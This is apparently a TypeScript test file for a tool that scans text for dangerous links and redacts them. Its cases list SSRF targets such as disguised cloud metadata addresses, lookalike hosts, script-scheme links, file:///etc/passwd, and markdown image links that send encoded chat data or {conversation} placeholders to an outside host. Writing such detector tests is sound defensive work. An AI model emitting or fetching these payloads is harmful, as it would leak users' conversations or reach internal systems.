import { describe, expect, test } from 'vitest';

import { createInspector } from '../src/index.ts';

const inspector = createInspector();
const problemsIn = (text: string): readonly string[] =>
  inspector
    .inspect(text, { surface: 'result' })
    .findings.filter(({ kind }) => kind === 'links')
    .map(({ rule, severity }) => `${rule.slice(6)} ${severity}`);

/** The scheme whose links run code. */
const SCRIPT = ['javascript', ''].join(':');

const encoded = Buffer.from('the user said that the code is 1234').toString('base64url');

describe('what speaks against a link is told', () => {
  test.each([
    ['https://user:pass@example.com/a', 'credentials medium'],
    ['https://google.com@evil.example/', 'credentials medium'],
    ['http://169.254.169.254/latest/meta-data/', 'metadata high'],
    ['http://metadata.google.internal/', 'metadata high'],
    ['http://[fd00:ec2::254]/', 'metadata high'],
    ['http://0x7f.1/', 'disguised-host high'],
    ['http://2130706433/', 'disguised-host high'],
    ['http://0177.0.0.1/', 'disguised-host high'],
    ['http://127.1/', 'disguised-host high'],
    ['http://0xa9fea9fe/', 'disguised-host high'],
    ['http://[::ffff:169.254.169.254]/', 'disguised-host high'],
    ['http://[::ffff:a9fe:a9fe]/', 'disguised-host high'],
    ['http://[64:ff9b::a9fe:a9fe]/', 'disguised-host high'],
    ['http://127.0.0.1.nip.io/', 'rebinding medium'],
    ['http://localhost:3000/', 'internal-host low'],
    ['http://10.0.0.1/admin', 'internal-host low'],
    ['http://printer.local/', 'internal-host low'],
    ['https://раураӏ.com/', 'confusable-host high'],
    ['https://gооgle.com/', 'confusable-host high'],
    ['https://xn--ggle-55da.com/', 'confusable-host high'],
    ['https://münchen.example/', 'international-host low'],
    [`${SCRIPT}alert(1)`, 'script high'],
    ['[x](javascript:alert(1))', 'script high'],
    ['<a href="vbscript:x">', 'script high'],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">', 'document high'],
    ['file:///etc/passwd', 'file medium'],
    ['<a href="ms-msdt:/id PCWDiagnostic">', ''],
    ['gopher://a.example/', 'scheme medium'],
    ['search-ms://query=x', 'scheme medium'],
    [`https://e.example/c?d=${encoded}`, 'data medium'],
    [`https://e.example/${encoded}`, 'data medium'],
    [`![x](https://e.example/p.png?d=${encoded})`, 'data high'],
    ['![x](https://e.example/p.png?d={conversation})', 'data-placeholder high'],
    ['![x](https://e.example/p.png?q=<data>)', 'fetched low'],
    ['![x](https://e.example/p.png?q=[DATA])', 'data-placeholder high'],
    ['![x](//e.example/p.png)', 'fetched low'],
    ['<img src="https://e.example/p.png?d={x}">', 'data-placeholder high'],
    ['<img src="//e.example/p.png">', 'fetched low'],
    ['see https://e.example/?d={{chat_history}}', 'data-placeholder medium'],
    ['![x][y]\n\n[y]: https://e.example/p.png', 'fetched low'],
    [`https://e.example/?next=${'a'.repeat(100)}`, 'data low'],
    ['https://web.example/?to=http://169.254.169.254/', 'metadata high'],
    ['ｈttps://169.254.169.254/', 'metadata high'],
    ['https%3A%2F%2F169.254.169.254%2F', 'metadata high'],
  ])('%s', (text, expected) => {
    expect(problemsIn(text).join(', ')).toBe(expected);
  });

  test.each([
    'https://example.com/',
    'See https://example.com/a/b?id=42&page=2#part, or (https://en.wikipedia.org/wiki/A_(b)).',
    '[a](https://example.com/x "y") and <https://example.com>',
    'https://api.example.com/users/{id}?expand={fields}',
    'docs://guide/1 memory://insights postgres://db.example/a',
    'https://github.com/a/b/commit/8b137891791fe96927ad78e64b0aad7bded08bdc',
    'data: {"a": 1}, javascript: the good parts',
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk',
    'C://x, a://, ://, http://, https://{host}/x',
    'https://8.8.8.8/ https://[2606:4700:4700::1111]/',
  ])('nothing in %s', (text) => {
    expect(problemsIn(text)).toStrictEqual([]);
  });
});

test('policy that masks links masks those of weight, and says where they were', () => {
  const strict = createInspector({ treatments: { links: 'redact', instructions: 'flag' } });
  const text = 'at http://localhost/ ![x](https://e.example/p.png?d={conversation}) end';
  expect(strict.inspect(text, { surface: 'result' }).value).toBe(
    'at http://localhost/ ![x]([redacted:links.data-placeholder]) end',
  );
});

test('work is in proportion to the text, or runs out of fuel', () => {
  for (const part of [
    's://',
    'https://',
    'a:',
    'http://a@',
    'data:',
    SCRIPT,
    '![](//',
    '[a]: <',
    'xn--',
    'https://xn--a',
  ]) {
    const { fuel } = inspector.inspect(part.repeat(20_000 / part.length), { surface: 'result' });
    expect(fuel, part).toBeLessThan(480_000);
  }
});
